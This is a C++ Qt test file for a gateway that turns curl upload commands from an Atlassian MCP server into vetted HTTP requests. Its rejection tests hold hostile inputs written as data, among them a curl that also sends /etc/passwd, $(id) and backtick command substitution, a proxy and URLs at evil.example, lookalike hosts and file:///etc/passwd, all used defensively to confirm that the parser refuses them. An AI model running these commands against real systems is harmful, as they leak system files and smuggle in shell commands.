// SPDX-FileCopyrightText: 2026 The Fairlead authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "server/gateway/fileuploads.h"
#include "tests/fakes/fakehttpclient.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace fairlead;
using gateway::FileUploads;
using gateway::uploadRequestFrom;

namespace {

const QUrl server(u"https://mcp.atlassian.com/v2/mcp"_s);
const QString media = u"https://api.media.atlassian.com/file/binary?collection=c&name=a.png"_s;

FileUploads::File fileWith(const QString &command)
{
    return {.command = command,
            .server = server,
            .serverName = u"atlassian"_s,
            .name = u"a.png"_s,
            .content = "bytes"_ba};
}

} // namespace

class TestFileUploads : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void readsTheCommand_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QByteArray>("method");
        QTest::addColumn<QByteArray>("field");
        QTest::newRow("body") << u"curl -sS --location --request POST '%1' \\\n --header "
                                 "'Authorization: Bearer t' --data-binary '@/tmp/a.png'"_s
                              << "POST"_ba << QByteArray();
        QTest::newRow("double quotes")
            << u"curl \"%1\" -H \"authorization: Bearer t\" --data-binary @\"a b.png\""_s
            << "POST"_ba << QByteArray();
        QTest::newRow("upload") << u"curl -T a.png --url '%1' -H 'Authorization: Bearer t'"_s
                                << "PUT"_ba << QByteArray();
        QTest::newRow("form")
            << u"curl -X POST '%1' -H 'Authorization: Bearer t' -F 'file=@a.png;type=image/png'"_s
            << "POST"_ba
            << "file"_ba;
        QTest::newRow("more behind it")
            << u"curl '%1' -H 'Authorization: Bearer t' --data-binary @a.png | jq -r .data.id"_s
            << "POST"_ba << QByteArray();
    }
    void readsTheCommand()
    {
        QFETCH(QString, command);
        QFETCH(QByteArray, method);
        QFETCH(QByteArray, field);
        const auto upload = uploadRequestFrom(command.arg(media), server);
        QVERIFY2(upload, upload ? "" : qPrintable(upload.error().message));
        QCOMPARE(upload->request.method, method);
        QCOMPARE(upload->request.url, QUrl(media));
        QCOMPARE(upload->formField, field);
        const QList<net::Header> headers{{"authorization"_ba, "Bearer t"_ba}};
        QCOMPARE(upload->request.headers, headers);
        QCOMPARE(upload->request.reach, net::Reach::Internet);
    }

    void refusesWhatItDoesNotKnow_data()
    {
        QTest::addColumn<QString>("command");
        const auto row = [](const char *name, const QString &command) {
            QTest::newRow(name) << command;
        };
        row("nothing", {});
        row("another program", u"wget '%1' --post-file=a.png"_s);
        row("no file", u"curl -X POST '%1'"_s);
        row("two files", u"curl '%1' --data-binary @a.png --data-binary @/etc/passwd"_s);
        row("text", u"curl '%1' --data-binary text"_s);
        row("two addresses", u"curl '%1' '%1' --data-binary @a.png"_s);
        row("another method", u"curl -X DELETE '%1' --data-binary @a.png"_s);
        row("unknown option", u"curl --proxy http://evil.example '%1' --data-binary @a.png"_s);
        row("config file", u"curl -K /tmp/x '%1' --data-binary @a.png"_s);
        row("substitution", u"curl \"%1&x=$(id)\" --data-binary @a.png"_s);
        row("backticks", u"curl '%1' -H `id` --data-binary @a.png"_s);
        row("open quote", u"curl '%1 --data-binary @a.png"_s);
        row("option without its value", u"curl '%1' --data-binary @a.png -H"_s);
        row("elsewhere", u"curl 'https://evil.example/?x=%1' --data-binary @a.png"_s);
        row("looks like it", u"curl 'https://evilatlassian.com/' --data-binary @a.png"_s);
        row("user", u"curl 'https://a:b@api.media.atlassian.com/' --data-binary @a.png"_s);
        row("plain", u"curl 'http://api.media.atlassian.com/' --data-binary @a.png"_s);
        row("file", u"curl 'file:///etc/passwd' --data-binary @a.png"_s);
    }
    void refusesWhatItDoesNotKnow()
    {
        QFETCH(QString, command);
        const auto upload = uploadRequestFrom(command.replace(u"%1"_s, media), server);
        QVERIFY(!upload);
        QCOMPARE(upload.error().code, ErrorCode::InvalidInput);
    }

    void knowsTheServerByItsOrigin_data()
    {
        QTest::addColumn<QString>("address");
        QTest::addColumn<bool>("isTaken");
        const auto row = [](const char *name, const QString &address, bool isTaken) {
            QTest::newRow(name) << address << isTaken;
        };
        row("itself", u"https://jira.example:8443/upload"_s, true);
        row("in capitals", u"HTTPS://JIRA.example:8443/upload"_s, true);
        row("other port", u"https://jira.example:8444/upload"_s, false);
        row("usual port", u"https://jira.example/upload"_s, false);
        row("plain", u"http://jira.example:8443/upload"_s, false);
        row("other host", u"https://files.jira.example:8443/upload"_s, false);
        row("host in front", u"https://jira.example.evil.example:8443/upload"_s, false);
        row("user", u"https://user@jira.example:8443/upload"_s, false);
        row("user and password", u"https://u:p@jira.example:8443/upload"_s, false);
        row("user like it", u"https://jira.example:8443@evil.example/upload"_s, false);
        row("Atlassian's", u"https://api.media.atlassian.com/file"_s, true);
        row("Atlassian's on another scheme", u"ftp://api.media.atlassian.com/file"_s, false);
    }
    void knowsTheServerByItsOrigin()
    {
        QFETCH(QString, address);
        QFETCH(bool, isTaken);
        const QString command = u"curl '%1' --data-binary @x"_s.arg(address);
        const auto upload = uploadRequestFrom(command, QUrl(u"https://jira.example:8443/v2/mcp"_s));
        QCOMPARE(upload.has_value(), isTaken);
        if (!isTaken)
            QVERIFY(!upload.error().message.contains("u:p"_L1));
    }

    void knowsTheUsualPort()
    {
        const QString command = u"curl 'https://mcp.example:443/upload' --data-binary @x"_s;
        QVERIFY(uploadRequestFrom(command, QUrl(u"https://mcp.example/v2/mcp"_s)));
    }

    void takesTheTokenNowhereElse()
    {
        fakes::FakeHttpClient http;
        net::Response moved{.status = 307};
        moved.headers.append({"location"_ba, "https://api.media.atlassian.com/other"_ba});
        http.plan("POST", media, moved);
        FileUploads uploads(http);
        const auto id = QCoro::waitFor(uploads.send(fileWith(
            u"curl --location '%1' -H 'Authorization: Bearer t' --data-binary @x"_s.arg(media))));
        QVERIFY(!id);
        QVERIFY2(id.error().message.contains("HTTP 307"_L1), qPrintable(id.error().message));
        QCOMPARE(http.requests().size(), 1);
    }

    void bringsTheFileAndItsIdBack()
    {
        fakes::FakeHttpClient http;
        http.plan("POST", media, 201, R"({"data":{"id":"f-1","size":5}})");
        FileUploads uploads(http);
        const auto id =
            QCoro::waitFor(uploads.send(fileWith(u"curl '%1' --data-binary @x"_s.arg(media))));
        QVERIFY2(id, id ? "" : qPrintable(id.error().message));
        QCOMPARE(*id, u"f-1"_s);
        QCOMPARE(http.requests().first().body, "bytes"_ba);
    }

    void fillsInTheForm()
    {
        fakes::FakeHttpClient http;
        http.plan("POST", media, 200, R"({"id":"f-1"})");
        FileUploads uploads(http);
        QVERIFY(QCoro::waitFor(uploads.send(fileWith(u"curl '%1' -F 'file=@x'"_s.arg(media)))));
        const QByteArray body = http.requests().first().body;
        QVERIFY(body.contains("name=\"file\"; filename=\"a.png\""));
        QVERIFY(body.contains("\r\n\r\nbytes\r\n--"));
    }

    void saysWhyItWasNotTaken_data()
    {
        QTest::addColumn<int>("status");
        QTest::addColumn<QByteArray>("body");
        QTest::addColumn<QString>("said");
        QTest::newRow("status") << 401 << "secret words"_ba << u"HTTP 401"_s;
        QTest::newRow("no id") << 200 << "{}"_ba << u"names no file"_s;
        QTest::newRow("odd id") << 200 << R"({"id":"../x y"})"_ba << u"names no file"_s;
        QTest::newRow("less") << 200 << R"({"id":"f","size":4})"_ba << u"only a part"_s;
    }
    void saysWhyItWasNotTaken()
    {
        QFETCH(int, status);
        QFETCH(QByteArray, body);
        QFETCH(QString, said);
        fakes::FakeHttpClient http;
        http.plan("POST", media, status, body);
        FileUploads uploads(http);
        const auto id =
            QCoro::waitFor(uploads.send(fileWith(u"curl '%1' --data-binary @x"_s.arg(media))));
        QVERIFY(!id);
        QVERIFY2(id.error().message.contains(said), qPrintable(id.error().message));
        QVERIFY(!id.error().message.contains("secret words"_L1));
    }
};

QTEST_GUILESS_MAIN(TestFileUploads)
#include "tst_fileuploads.moc"
